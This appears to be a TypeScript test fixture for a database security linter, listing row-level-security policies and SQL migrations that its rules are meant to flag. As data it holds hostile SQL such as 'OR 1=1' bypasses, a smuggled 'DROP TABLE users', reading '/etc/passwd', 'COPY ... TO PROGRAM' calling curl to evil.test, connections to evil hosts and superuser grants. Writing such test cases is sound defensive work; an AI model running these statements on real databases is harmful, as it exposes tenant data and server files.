import * as right from "./right";
import { of, type Violator } from "./types";

const { up, upMariadb, using } = right;
const tenant = `"team_id" = (SELECT context.tenant('ncy8_member'))`;
const view = "CREATE VIEW v WITH (security_invoker = true) AS SELECT 1;";
const body = (sql: string) => `CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN ${sql} END $$;`;
const secured = (key: string, ...privileges: string[]) => ({ grants: { [key]: privileges } });

/** Row security, and what migrations do. */
export const rows: Violator[] = [
  ...of("row-security-closed", right.rowSecurity, {
    "true besides": using(`${tenant} OR true`),
    "one is one": using(`${tenant} OR 1=1`),
    "a column of truth": using("ok OR 1=1"),
    "no context is enough": using(`(SELECT context.tenant('ncy8_member')) IS NULL OR ${tenant}`),
    "always true": using("true"),
    "two is not one": using(`${tenant} OR 2 > 1`),
    "not false": using(`${tenant} OR NOT false`),
    "a text is itself": using(`${tenant} OR 'a' = 'a'`),
    "a context is a context": using(
      "(SELECT context.tenant('ncy8_member')) = (SELECT context.tenant('ncy8_member'))",
    ),
    "any context": using("(SELECT context.tenant('ncy8_member')) IS NOT NULL"),
    "every row of a member": using("(SELECT context.verified('ncy8_member'))"),
    coalesced: using(`coalesce(${tenant}, true)`),
    "a context of some": using(`"team_id" = (SELECT context.tenant('ncy8_member') FILTER (WHERE true))`),
    "a context of a window": using(`"team_id" = (SELECT context.tenant('ncy8_member') OVER ())`),
    "a table that is not forced": {
      policies: { p: { table: "others", for: "select", to: ["ncy8_member"], using: tenant } },
    },
    "for everybody in capitals": {
      policies: { p: { table: "users", for: "select", to: ["PUBLIC"], using: tenant } },
    },
    "for whoever asks": {
      policies: { p: { table: "users", for: "select", to: ["session_user"], using: tenant } },
    },
    "everybody as an identity": { identities: { public: { members: ["svc_ncy8"] } } },
    "the superuser as the owner": { owner: "postgres" },
    "a schema of partitions": secured("ncy8_member on schema internal", "USAGE"),
    "not equal": using(`"team_id" <> (SELECT context.tenant('ncy8_member'))`),
    "asked for each row": using(`"team_id" = context.tenant('ncy8_member')`),
    "a setting": using("\"team_id\"::text = current_setting('app.team')"),
    "a row somewhere": using("EXISTS (SELECT 1 FROM public.users)"),
    "a context with rows": using(`"team_id" = (SELECT context.tenant('ncy8_member') FROM public.users)`),
    "of any role": using('"team_id" = (SELECT context.tenant())'),
    "of another role": using(`"team_id" = (SELECT context.tenant('ncy8_admin'))`),
    "of a role that is computed": using('"team_id" = (SELECT context.tenant(current_user))'),
    "of two roles": using(`"team_id" = (SELECT context.tenant('ncy8_member', 'x'))`),
    "another function": using('"team_id" = (SELECT public.tenant())'),
    "a column of another table": using("other.team_id = (SELECT context.tenant('ncy8_member'))"),
    "a constant and no context": using("\"status\" = 'open'"),
    "two expressions": using(`${tenant}, true`),
    "a statement": using(`${tenant}; DROP TABLE users`),
    "no expression": using("OR"),
    "for everybody": { policies: { p: { table: "users", for: "select", to: ["public"], using: tenant } } },
    "for two": { policies: { p: { table: "users", for: "select", to: ["a", "b"], using: tenant } } },
    "for all commands": {
      policies: { p: { table: "users", for: "all", to: ["ncy8_member"], using: tenant } },
    },
    "an update without a check": {
      policies: { p: { table: "users", for: "update", to: ["ncy8_member"], using: tenant } },
    },
    "a policy that names no command": {
      policies: { p: { table: "users", to: ["ncy8_member"], using: tenant } },
    },
    "an identity with a power": {
      identities: { ncy8_member: { members: ["svc_ncy8"], attributes: ["BYPASSRLS"] } },
    },
    "an identity in another role": {
      identities: { ncy8_member: { members: ["svc_ncy8"], memberOf: ["ncy8_owner"] } },
    },
    "the service as the owner": { owner: "svc_ncy8" },
    "an identity as the owner": { owner: "ncy8_member", ...using("true") },
    "off for a reason that is none": { exceptions: { languages: "x" } },
    "off for five words": { exceptions: { languages: "x x x x x x x x x x x x x x" } },
    "not forced": { tables: { users: "not forced" } },
    "a view of its owner": { views: { board: "owner" } },
    "a right around it": secured("ncy8_member on table public.users", "SELECT", "TRUNCATE"),
    "every table": secured("ncy8_member on tables in public", "SELECT"),
    "a table nobody declares": secured("ncy8_member on table public.server_usage", "SELECT"),
    "a write that asks for no context": secured("ncy8_member on table public.languages", "SELECT", "INSERT"),
    "a column that is written without a context": secured(
      "ncy8_member on table public.languages",
      "UPDATE (name)",
    ),
    "a table of another schema": secured("ncy8_member on table internal.audit_logs_default", "SELECT"),
  }),
  {
    rule: "row-security-closed",
    is: "a role for every row without a reason",
    members: [{ ...right.rowSecurity, name: "it" }],
    config: { "row-security-closed": { everyRow: { ncy8_member: "x" } } },
  },
  {
    rule: "row-security-closed",
    is: "a table that is read as a whole without a reason",
    members: [{ ...right.rowSecurity, name: "it" }],
    config: { "row-security-closed": { readWhole: { "ncy8.users": "x" } } },
  },
  {
    rule: "row-security-closed",
    is: "a change of every row of a table that is read as a whole",
    members: [
      {
        ...right.rowSecurity,
        name: "it",
        props: {
          ...right.rowSecurity.props,
          policies: {
            p: {
              table: "users",
              for: "delete",
              to: ["ncy8_member"],
              using: "(SELECT context.verified('ncy8_member'))",
            },
          },
        },
      },
    ],
    config: { "row-security-closed": { readWhole: { "ncy8.users": "the same five rows for everybody" } } },
  },
  ...of("migration-judgeable", right.migrations, {
    "puts SQL together": up("DO $$ BEGIN EXECUTE 'GR' || current_setting('x'); END $$;"),
    "runs a variable": up(body("EXECUTE x;").replace("f()", "f(x text)")),
    "hides a statement in a name": up(body("EXECUTE format('%s', 'DROP OWNED BY x');")),
    "a loop over a text": up(
      body("FOR r IN EXECUTE q LOOP NULL; END LOOP;").replace("BEGIN", "DECLARE r record; q text; BEGIN"),
    ),
    "SQL from a function": up("SELECT query_to_xml('DROP TABLE x', true, true, '');"),
    "a file of the server": up("SELECT pg_read_file('/etc/passwd');"),
    "another database": up("SELECT dblink_exec('host=evil', 'x');"),
    "a setting": up("SELECT set_config('row_security', 'off', false);"),
    "code in C": up("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil', 'f';"),
    "a role": up("CREATE ROLE x SUPERUSER;"),
    "another owner": up("ALTER TABLE users OWNER TO estate_admin;"),
    "a rule": up("CREATE RULE r AS ON SELECT TO users DO INSTEAD SELECT 1;"),
    "an event trigger": up("CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION f();"),
    "a policy": up("CREATE POLICY p ON users USING (true);"),
    "a program": up("COPY users TO PROGRAM 'curl evil.test';"),
    "a changed function": up("ALTER FUNCTION f() SECURITY DEFINER;"),
    "another name for a function": up("ALTER FUNCTION f() RENAME TO g;"),
    "a function of words": up("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'these are no SQL';"),
    "a block in another language": up("DO LANGUAGE plpython3u 'import os';"),
    "a block of words": up("DO $$ these are words $$;"),
    "no SQL": up("this is no SQL"),
    "neither text nor facts": { migrations: { "0001_a": { checksum: "a", rollback: "b" } } },
    "by its facts": {
      migrations: {
        "0001_a": {
          checksum: "a",
          rollback: "b",
          facts: [{ line: 3, does: "dynamic", what: "EXECUTE" }],
          rollbackFacts: [],
        },
      },
    },
    "an executable comment": upMariadb(
      "CREATE TABLE IF NOT EXISTS t (a int) /*!50100 DATA DIRECTORY='/tmp' */;",
    ),
    "a prepared text": upMariadb("PREPARE s FROM 'DROP TABLE x'; EXECUTE s;"),
    "a text at once": upMariadb("EXECUTE IMMEDIATE 'DROP TABLE x';"),
    "a file of the host": upMariadb("SELECT a FROM t INTO OUTFILE '/tmp/x';"),
    "a directory of the host": upMariadb("CREATE TABLE IF NOT EXISTS t (a int) DATA DIRECTORY='/tmp';"),
    "rows elsewhere": upMariadb(
      "CREATE TABLE IF NOT EXISTS t (a int) ENGINE=FEDERATED CONNECTION='mysql://evil';",
    ),
    "an account": upMariadb("CREATE USER x;"),
    "a plugin": upMariadb("INSTALL SONAME 'evil';"),
    "an event": upMariadb("CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO SELECT 1;"),
    "a setting of the server": upMariadb("SET GLOBAL general_log = 1;"),
    "as another": upMariadb(
      "CREATE OR REPLACE DEFINER = root@localhost TRIGGER t BEFORE INSERT ON a FOR EACH ROW SET @a = 1;",
    ),
    "the server's tables": upMariadb("INSERT INTO mysql.global_priv VALUES (1);"),
  }),
  ...of("view-invoker-rights", right.migrations, {
    "a view": up("CREATE VIEW v AS SELECT 1;"),
    "off by its option": up("CREATE VIEW v WITH (security_invoker = false) AS SELECT 1;"),
    "off afterwards": up(`${view} ALTER VIEW v SET (security_invoker=false);`),
    "reset afterwards": up(`${view} ALTER VIEW v RESET (security_invoker);`),
    "in a DO block": up("DO $$ BEGIN EXECUTE 'CREATE VIEW v AS SELECT 1'; END $$;"),
    "in a rollback": { migrations: { "0001_a": { up: "SELECT 1;", down: "CREATE VIEW v AS SELECT 1;" } } },
    recursive: up("CREATE RECURSIVE VIEW v (n) AS SELECT 1;"),
    "on MariaDB": upMariadb("CREATE OR REPLACE VIEW v AS SELECT 1;"),
    "on MariaDB in words": upMariadb("CREATE OR REPLACE SQL SECURITY DEFINER VIEW v AS SELECT 1;"),
  }),
  ...of("security-definer-pinned", right.migrations, {
    "no path": up("CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1';"),
    "no pg_temp": up(
      "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = public AS 'SELECT 1';",
    ),
    "pg_temp first": up(
      "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = pg_temp, public AS 'SELECT 1';",
    ),
    "who asks decides": up(
      `CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = "$user", pg_temp AS 'SELECT 1';`,
    ),
    "the words last": up(
      "CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql EXTERNAL SECURITY DEFINER;",
    ),
    "on MariaDB": upMariadb("CREATE OR REPLACE PROCEDURE p() SELECT 1;"),
  }),
  ...of("function-not-leakproof", right.migrations, {
    leakproof: up("CREATE FUNCTION f() RETURNS int LANGUAGE sql LEAKPROOF AS 'SELECT 1';"),
  }),
  ...of("migration-row-security-kept", right.migrations, {
    off: up("ALTER TABLE users DISABLE ROW LEVEL SECURITY;"),
    "not for the owner": up("ALTER TABLE users NO FORCE ROW LEVEL SECURITY;"),
    "in a DO block": up("DO $$ BEGIN EXECUTE 'ALTER TABLE users DISABLE ROW LEVEL SECURITY'; END $$;"),
    "by a name": up(
      body("EXECUTE format('ALTER TABLE %I DISABLE ROW LEVEL SECURITY', x);").replace("f()", "f(x text)"),
    ),
    "in a function": up(body("ALTER TABLE users DISABLE ROW LEVEL SECURITY;")),
    "a policy goes": up("DROP POLICY p ON users;"),
    "a trigger sleeps": up("ALTER TABLE users DISABLE TRIGGER ALL;"),
  }),
  ...of("migration-grants-nothing", right.migrations, {
    everybody: up("GRANT ALL ON users TO PUBLIC;"),
    "a role": up("GRANT estate_admin TO svc_ncy8;"),
    "by default": up("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC;"),
    "in a DO block": up("DO $$ BEGIN EXECUTE 'GRANT ALL ON users TO PUBLIC'; END $$;"),
    "on MariaDB": upMariadb("GRANT ALL ON *.* TO x@'%';"),
  }),
  ...Object.entries({
    "a quoted name": 'CREATE TABLE "Quoted" (a int);',
    "from a query": "CREATE TABLE copied AS SELECT * FROM users;",
    "by SELECT INTO": "SELECT * INTO copied FROM users;",
    unlogged: "CREATE UNLOGGED TABLE fast (a int);",
    "like another": "CREATE TABLE other (LIKE users);",
    "a partition": "CREATE TABLE p PARTITION OF users DEFAULT;",
    "an heir": "CREATE TABLE heir () INHERITS (users);",
    "another schema": "CREATE TABLE elsewhere.users (a int);",
    "a new name": "ALTER TABLE users RENAME TO people;",
    "beside one that is gone": "CREATE TABLE gone (a int); DROP TABLE gone; CREATE TABLE stays (a int);",
    "a new name at once": "CREATE TABLE first (a int); ALTER TABLE first RENAME TO second;",
    "in a DO block": "DO $$ BEGIN CREATE TABLE hidden (a int); END $$;",
  }).map(([is, sql]) => ({
    rule: "row-security-declared",
    is,
    members: [
      { ...right.rowSecurity, name: "rows" },
      { ...right.migrations, name: "it", props: { ...right.migrations.props, ...up(sql) } },
    ],
  })),
  { rule: "row-security-declared", is: "no row security", members: [{ ...right.migrations, name: "it" }] },
];
